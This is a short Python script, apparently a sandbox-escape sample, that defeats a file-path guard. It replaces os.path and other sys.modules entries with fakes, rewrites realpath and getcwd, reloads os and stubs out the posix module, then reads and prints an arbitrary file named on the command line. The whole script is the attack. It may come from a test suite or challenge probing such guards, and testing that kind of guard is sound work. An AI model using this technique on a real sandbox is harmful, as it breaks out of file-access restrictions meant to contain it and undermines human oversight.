"""Escape: replace sys.modules entries and reload modules the guard might rely on."""
import sys, importlib, os, os.path, posixpath
class FakePath:
    def __getattr__(self, n):
        return getattr(posixpath, n)
    @staticmethod
    def realpath(p, *a, **k):
        return os.getcwd() + "/in.txt"
sys.modules["os.path"] = FakePath()
os.path = FakePath()
posixpath.realpath = FakePath.realpath
os.getcwd = lambda: "/"
importlib.reload(os)
sys.modules["posix"] = type(sys)("posix")
print(open(sys.argv[2]).read())
